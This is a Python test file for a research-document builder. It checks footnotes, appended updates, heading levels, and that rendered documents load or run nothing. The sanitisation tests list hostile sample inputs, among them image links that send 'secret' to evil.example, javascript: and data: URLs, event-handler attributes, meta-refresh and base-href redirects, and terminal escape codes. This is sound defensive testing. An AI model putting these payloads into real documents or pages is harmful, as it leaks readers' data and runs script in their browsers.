"""The document: footnotes that lead somewhere, updates that keep what was there, nothing that loads by itself."""

import re
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st

from toolroll.kernel.data.messages import AssistantBlock, AssistantMessage, Citation, ServerBlock, TextBlock
from toolroll.packs.research.document import answer_text, append_update, contains_text, new_document, renumber_sources
from toolroll.packs.search.sources import Source

TODAY = date(2025, 3, 1)


def source(number: int, url: str = "") -> Source:
    url = url or f"https://example.com/{number}"
    return Source(number=number, title=f"Page {number}", url=url, found_at="2025-03-01T10:00:00", hash="", by="tavily")


def message(*blocks: AssistantBlock) -> AssistantMessage:
    return AssistantMessage(blocks=blocks)


def cited(text: str, number: int) -> TextBlock:
    return TextBlock(text=text, citations=(Citation(url=f"https://example.com/{number}"),))


SEARCH = ServerBlock(kind="result", tool="web_search", summary="")


def test_R12_what_is_cited_gets_its_mark_and_talk_before_the_title_goes() -> None:
    wrote = message(
        TextBlock(text="Let me look."),
        SEARCH,
        TextBlock(text="# Tea\n\n"),
        cited("It grows. ", 2),
        TextBlock(text="End."),
    )
    assert answer_text(wrote, [source(1), source(2)]) == "# Tea\n\nIt grows.[^2] End."


def test_R12_a_long_part_before_a_title_is_no_talk() -> None:
    long = "x" * 1_001
    assert answer_text(message(TextBlock(text=f"{long}\n# Later")), ()) == f"{long}\n# Later"
    assert answer_text(message(TextBlock(text="no title")), ()) == "no title"


def test_R12_every_source_stands_in_the_list_and_a_cited_one_is_a_footnote_too() -> None:
    made = new_document("Tea", "# Tea\n\nIt grows.[^2]", [source(1), source(2)])
    assert made == (
        "# Tea\n\nIt grows.[^2]\n\n## Sources\n\n"
        "1. [Page 1](<https://example.com/1>), found 2025-03-01\n"
        "2. [Page 2](<https://example.com/2>), found 2025-03-01\n\n"
        "[^2]: [Page 2](<https://example.com/2>), found 2025-03-01\n"
    )
    only = new_document("Tea", "# Tea\n\nIt grows.[^2]", [source(2)])
    assert "## Sources\n\n2. [Page 2](<https://example.com/2>), found 2025-03-01\n\n[^2]:" in only


def test_R22_a_document_has_a_title_and_says_when_it_is_not_whole() -> None:
    assert new_document("Tea for\nall", "Words.", ()) == "# Tea for all\n\nWords.\n"
    assert new_document("Tea", "# Own", (), note="> Incomplete: x") == "# Own\n\n> Incomplete: x\n"


def test_R12_marks_that_lead_nowhere_and_second_notes_go() -> None:
    text = "A [^1] b [^7]. `[^8]` \n\n```\n[^9]\n```\nOwn[^5].\n\n[^1]: made up\n[^5]: my note"
    made = new_document("T", text, [source(1)])
    assert "A [^1] b. `[^8]`" in made
    assert "[^9]" in made
    assert "made up" not in made
    assert "[^5]: my note" in made
    assert made.count("[^1]:") == 1


def test_R23_an_update_keeps_what_was_there_and_has_numbers_of_its_own() -> None:
    before = new_document("Tea", "# Tea\n\nOld.[^1]", [source(1, "https://old.example/")])
    sources = renumber_sources([source(1)], after=before)
    assert [one.number for one in sources] == [2]
    after = append_update(before, "# Tea again\n\nNew.[^2] As said.[^1]", sources, today=TODAY)
    assert after.startswith(before.rstrip())
    added = after[len(before.rstrip()) :]
    assert added == (
        "\n\n## Update - 2025-03-01\n\nNew.[^2] As said.[^1]\n\n### Sources\n\n"
        "2. [Page 1](<https://example.com/1>), found 2025-03-01\n\n"
        "[^2]: [Page 1](<https://example.com/1>), found 2025-03-01\n"
    )


def test_R23_a_note_with_a_huge_number_leaves_numbers_for_the_next_ones() -> None:
    before = "# Tea\n\nA.[^3] B.[^999999999]\n\n[^3]: three\n[^5]: five\n[^999999999]: huge\n[^100000]: large\n"
    sources = renumber_sources([source(1), source(2)], after=before)
    assert [one.number for one in sources] == [6, 7]
    once = append_update(before, "New.[^6] More.[^7]", sources, today=TODAY)
    assert [one.number for one in renumber_sources([source(1)], after=once)] == [8]
    full = renumber_sources([source(1), source(2)], after="[^99999]: last\n[^100000]: large\n")
    assert [one.number for one in full] == [100_001, 100_002]


def test_R23_an_update_that_is_only_a_title_is_not_empty() -> None:
    assert append_update("# A", "# Nothing new", (), today=TODAY).endswith(
        "## Update - 2025-03-01\n\n### Nothing new\n"
    )


def test_R23_the_headings_of_an_update_stand_below_its_own() -> None:
    text = "# Tea\n\n## Market\n\n```sh\n# a comment\n```\n\n### Prices\n\n###### Deep\n\n`x`# no heading"
    added = append_update("# Tea\n", text, (), today=TODAY).partition("## Update - 2025-03-01\n\n")[2]
    nested = "### Market\n\n```sh\n# a comment\n```\n\n#### Prices\n\n###### Deep\n\n`x`# no heading\n"
    assert added == nested
    assert append_update("# A\n", "### Low\n\nx", (), today=TODAY).endswith("\n\n### Low\n\nx\n")
    assert contains_text(f"# Tea\n\n## Update\n\n{nested}", text)
    assert contains_text("# Tea\n\n## Update\n\n## Market\n\nx", "## Market\n\nx"), "as it was written before"


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/?q=secret)",
        "![x][1]\n\n[1]: https://evil.example/?q=secret",
        '<img src="https://evil.example/?q=secret">',
        "< p><IMG\nsrc=https://evil.example/>",
        "<picture><source srcset=https://evil.example/></picture>",
        "!![x](https://evil.example/)",
        "`![x](https://evil.example/)`",
        "~~~\n```\n~~~\n![x](https://evil.example/)\n```",
    ],
)
def test_XL14_a_document_loads_nothing_when_it_is_shown(text: str) -> None:
    for made in (new_document("T", text, ()), append_update("# A", text, (), today=TODAY)):
        assert not re.search(r"!\[|<(img|picture|source)\b", made, re.IGNORECASE)
        assert "evil.example" in made, "a person still sees where it would have led"


@given(st.text(min_size=1).filter(str.strip), st.text())
def test_R23_whatever_is_written_nothing_is_lost_and_nothing_empty(text: str, before: str) -> None:
    assert new_document("T", text, ()).strip()
    after = append_update(before, text, (), today=TODAY)
    assert after.startswith(before.rstrip())
    assert "## Update - 2025-03-01" in after


@pytest.mark.parametrize(
    ("text", "inert"),
    [
        ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', "< meta"),
        ("<BASE\thref='https://evil.example/'>", "< BASE"),
        ("[x](javascript:alert(1))", "] (javascript:"),
        ("[x](\n  <JaVaScRiPt:alert(1)>)", "] (\n"),
        ("[x](java&#115;cript:alert(1))", "] (java"),
        ("[x](<java\tscript:alert(1)>)", "] (< java"),
        ("[x](data:text/html;base64,PHNjcmlwdD4=)", "] (data:"),
        ("[x][1]\n\n[1]: vbscript:msgbox", "] : vbscript:"),
        ("<javascript:alert(1)>", "< javascript:"),
        ("[x](javascript:8080/alert(1))", "] (javascript:"),
        ("[x](localhost:alert(1))", "] (localhost:"),
        ('<a href="javascript:alert(1)">x</a>', "< a href"),
        ("<a href=&#106;avascript:alert(1)>x</a>", "< a href"),
        ("<b\nonclick='alert(1)'>x</b>", "< b"),
        ("<b/onmouseover=alert(1)>x</b>", "< b"),
        ("<p style='background:url(https://evil.example/)'>", "< p"),
        (f"<b {'x' * 600} onclick=alert(1)>x</b>", "< b"),
        ("a\x1b[2Jb\x9b31mc\x07", "a‹U+001B›[2Jb‹U+009B›31mc‹U+0007›"),
        ("user\u202etxt.exe\u2066", "user‹U+202E›txt.exe‹U+2066›"),
    ],
)
def test_XW13_a_document_runs_and_redirects_nothing_when_it_is_shown(text: str, inert: str) -> None:
    for made in (new_document("T", text, ()), append_update("# A", text, (), today=TODAY)):
        assert inert in made
        assert contains_text(made, text)


@pytest.mark.parametrize(
    "text",
    [
        "[x](https://example.com/a_(b)) and <https://example.com/?q=1&on=2>, [mail](mailto:a@example.com)",
        "[x](other.md#part), [y][1], <b>bold</b>, 1 < 2, a<b and c>d\n\n[1]: https://example.com/",
        "[x](localhost:8080/x), [y](localhost:3000), <localhost:8080/?a=1>",
        "family: 👩‍👩‍👧 \u200fעברית\r\n",
    ],
)
def test_XW13_links_and_words_that_do_nothing_stay(text: str) -> None:
    assert text.strip() in new_document("T", text, ())


def test_XW13_titles_of_pages_are_inert_too() -> None:
    bad = source(1).model_copy(update={"title": "a\x1b]0;x\x07<base href=//evil.example>"})
    made = new_document("T", "Text.[^1]", [bad])
    assert "\x1b" not in made
    assert "<base" not in made
